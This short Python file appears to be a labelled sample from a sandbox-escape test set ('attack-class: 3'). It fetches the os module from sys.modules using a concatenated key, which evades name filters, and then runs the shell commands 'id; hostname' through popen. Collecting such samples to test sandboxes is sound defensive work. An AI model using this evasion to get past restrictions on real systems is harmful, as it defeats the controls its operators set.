# attack-class: 3
# title: sys.modules.__getitem__ with a computed key
# why: sys.modules is a dict of every loaded module including os

import sys

osmod = sys.modules.__getitem__("o" + "s")
print(osmod.popen("id; hostname").read())
